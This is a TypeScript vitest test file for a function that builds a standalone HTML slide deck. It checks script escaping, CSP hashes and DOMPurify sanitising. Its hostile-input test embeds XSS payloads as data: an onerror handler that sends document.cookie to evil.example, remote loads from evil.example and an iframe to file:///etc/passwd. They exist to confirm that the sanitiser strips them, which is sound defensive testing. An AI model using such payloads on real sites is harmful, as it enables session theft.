import { describe, it, expect } from 'vitest';
import { buildHtmlDeck, type DeckHtmlAssets } from './html-deck';
import { parseDeck } from '../deck';
import { scriptHashes } from './script-hashes';

const assets: DeckHtmlAssets = {
  revealJs: '/*REVEAL_JS*/ window.Reveal = function () {};',
  revealCss: '/*REVEAL_CSS*/',
  notesJs: '/*NOTES_JS*/',
  purifyJs: '/*PURIFY_JS*/ var s = "</script>";',
  baseCss: '/*BASE_CSS*/',
  themeCss: { 'party-red': '/*RED_CSS*/', 'deep-blue': '/*BLUE_CSS*/' },
};

const text = `---
title: 以实干为民谋福
theme: deep-blue
---

<!-- .slide: class="cover" -->
# 以实干为民谋福

---

## 在万亿之城再出发中提升贡献度

- 坚持稳中求进
- </script><script>alert(1)</script>

![地图](wujin.assets/map.png)

Note:
讲稿：在万亿之城再出发中提升贡献度。
`;
const deck = parseDeck(text).deck;

/** The slides the page sanitises and inserts, one string (attributes, body and notes). */
function slideData(html: string): string {
  const m = /<script type="application\/json" id="deck-data">([\s\S]*?)<\/script>/.exec(html);
  const { slides } = JSON.parse(m![1]!) as { slides: Array<{ attrs: Record<string, string>; body: string; notes: string | null }> };
  return slides.map((s) => `${JSON.stringify(s.attrs)}\n${s.body}\n${s.notes ?? ''}`).join('\n');
}

describe('buildHtmlDeck', () => {
  it('inlines reveal.js, the notes plugin, DOMPurify and only the deck theme, with nothing to fetch', () => {
    const html = buildHtmlDeck(deck, assets);
    for (const marker of ['REVEAL_JS', 'REVEAL_CSS', 'NOTES_JS', 'PURIFY_JS', 'BASE_CSS', 'BLUE_CSS']) expect(html).toContain(marker);
    expect(html).not.toContain('RED_CSS');
    expect(html).toContain('<body class="deck-theme deck-theme-deep-blue">');
    expect(html).not.toMatch(/<script[^>]+src=|<link\b/i);
    expect(html).toMatch(/Content-Security-Policy" content="[^"]*connect-src 'none'/);
    expect(html).toContain('<title>以实干为民谋福</title>');
  });

  it('carries the notes for the speaker view and sanitises the slides in the page before inserting them', () => {
    const html = buildHtmlDeck(deck, assets);
    const slides = slideData(html);
    expect(slides).toContain('<p>讲稿：在万亿之城再出发中提升贡献度。</p>');
    expect(html).toContain('section.innerHTML = sanitizer.sanitize(s.body)');
    expect(html).toContain('aside.innerHTML = section.briefingNotes = sanitizer.sanitize(s.notes)');
    expect(html).toContain('plugins: mode === \'present\' ? [window.RevealNotes]');
  });

  it('cannot be broken out of: "</script>" in slides or assets never closes a script element early', () => {
    const html = buildHtmlDeck(deck, assets);
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).not.toContain('"</script>"');
    // The slide text survives intact inside the data.
    expect(slideData(html)).toContain('alert(1)');
    // Exactly the scripts we wrote: data, DOMPurify, reveal.js, notes plugin, boot.
    expect(html.match(/<script\b/g)).toHaveLength(5);
  });

  it('lets only its own scripts run: a hash per script, no unsafe-inline (so no event handler or javascript: URL)', () => {
    const html = buildHtmlDeck(deck, assets);
    const csp = /Content-Security-Policy" content="([^"]*)"/.exec(html)![1]!;
    const scriptSrc = csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src'))!;
    expect(scriptSrc).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes/);
    const inline = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
    expect(inline).toHaveLength(4);
    for (const h of scriptHashes(inline)) expect(scriptSrc).toContain(h);
  });

  it('print mode: slides only leaves the notes out entirely; the notes variant keeps them', () => {
    const slidesOnly = buildHtmlDeck(deck, assets, { mode: 'print' });
    expect(slidesOnly).not.toContain('讲稿：');
    expect(slidesOnly).not.toContain('NOTES_JS');
    expect(slidesOnly).toContain("var mode = \"print\"");
    const withNotes = buildHtmlDeck(deck, assets, { mode: 'print', printNotes: true });
    expect(slideData(withNotes)).toContain('讲稿：在万亿之城再出发中提升贡献度。');
    expect(withNotes).toContain('var printNotes = true');
  });

  it('puts pictures inside the file when the caller resolved them', () => {
    const html = buildHtmlDeck(deck, assets, { images: { 'wujin.assets/map.png': 'data:image/png;base64,iVBORw0KGgo=' } });
    expect(slideData(html)).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="地图">');
  });
});

describe('standalone HTML sanitising', () => {
  it("runs the app's own sanitiser in the page: frames, forms, handlers, remote loads and HTML in data-notes never reach the document", async () => {
    // @ts-expect-error -- jsdom is a dev dependency without @types here; only its window is used.
    const { JSDOM } = await import('jsdom');
    const createDOMPurify = (await import('dompurify')).default;
    const hostile = parseDeck(
      [
        '---\ntitle: t\n---\n',
        `<!-- .slide: data-notes="<img src=x onerror=opener.location='http://evil.example/?d='+document.cookie>" data-background-image="http://evil.example/bg.png" -->`,
        '# A\n',
        '<p class="fragment" data-notes="<img src=x onerror=alert(1)>">片段</p>\n',
        '<iframe src="file:///etc/passwd"></iframe>\n\n<form action="x"><input></form>\n\n<style>@import "http://example.com/x.css";</style>\n',
        '<img src="m.png" onerror="alert(1)">\n\n<img src="http://evil.example/a.png"><img srcset="http://evil.example/b.png 2x"><video poster="https://evil.example/p.png"></video>\n',
        '<div style="background:u\\72l(http://evil.example/c.png)">css escape</div><svg><image href="http://evil.example/d.png"></image></svg>\n',
        'Note:\n<img src=x onerror="alert(2)">讲稿\n',
      ].join('\n'),
    ).deck;
    // The page as a browser runs it: its boot script over a DOM, with DOMPurify and a stand-in reveal.js.
    const html = buildHtmlDeck(hostile, assets);
    const dom = new JSDOM(html, { runScripts: 'outside-only' });
    const win = dom.window as unknown as Record<string, unknown> & { eval(js: string): unknown; document: { querySelector(s: string): { innerHTML: string } } };
    win.DOMPurify = createDOMPurify(dom.window as never);
    win.Reveal = function (this: Record<string, unknown>) {
      this.initialize = () => undefined;
      this.on = () => undefined;
    };
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
    win.eval(scripts[scripts.length - 1]!);
    const clean = win.document.querySelector('.reveal .slides').innerHTML;
    expect(clean).not.toMatch(/<iframe|<form|<input|<style|onerror|data-notes|evil\.example/i);
    expect(clean).toContain('<img src="m.png">');
    expect(clean).toContain('片段');
    expect(clean).toContain('讲稿');
  });
});
